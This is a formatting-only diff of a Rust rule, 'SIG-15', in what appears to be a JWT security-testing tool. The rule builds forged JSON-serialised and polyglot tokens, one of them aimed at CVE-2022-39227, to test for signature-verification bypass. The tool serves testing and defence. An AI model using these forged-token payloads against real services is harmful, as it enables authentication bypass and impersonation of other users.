@@ -1,7 +1,7 @@
 //! SIG-15: JSON serialization / polyglot accepted as JWT.
 
-use crate::rules::prelude::*;
 use crate::live::{Plan, Scene};
+use crate::rules::prelude::*;
 
 pub(super) static RULE: Rule = Rule {
     id: "SIG-15",
@@ -21,10 +21,27 @@ fn attack(scene: &Scene) -> Plan {
     let (header, claims, signature) = (valid.part(0), valid.part(1), valid.part(2));
     let forged = to_base64url(forge.claims_json().to_string().as_bytes());
     Plan::of(vec![
-        forge.text("flattened JSON", format!(r#"{{"protected":"{header}","payload":"{claims}","signature":"{signature}"}}"#)).as_severe_as(Severity::Medium),
-        forge.text("general JSON", format!(r#"{{"payload":"{claims}","signatures":[{{"protected":"{header}","signature":"{signature}"}}]}}"#)).as_severe_as(Severity::Medium),
+        forge
+            .text(
+                "flattened JSON",
+                format!(r#"{{"protected":"{header}","payload":"{claims}","signature":"{signature}"}}"#),
+            )
+            .as_severe_as(Severity::Medium),
+        forge
+            .text(
+                "general JSON",
+                format!(
+                    r#"{{"payload":"{claims}","signatures":[{{"protected":"{header}","signature":"{signature}"}}]}}"#
+                ),
+            )
+            .as_severe_as(Severity::Medium),
         // CVE-2022-39227: verified as the JSON form, read as the compact one.
-        forge.text("compact and JSON at once", format!(r#"{{"  {header}.{forged}.":"","protected":"{header}","payload":"{claims}","signature":"{signature}"}}"#)),
+        forge.text(
+            "compact and JSON at once",
+            format!(
+                r#"{{"  {header}.{forged}.":"","protected":"{header}","payload":"{claims}","signature":"{signature}"}}"#
+            ),
+        ),
         forge.text("compact with JSON behind", format!(r#"{header}.{forged}.{signature}{{"payload":"{claims}"}}"#)),
     ])
 }
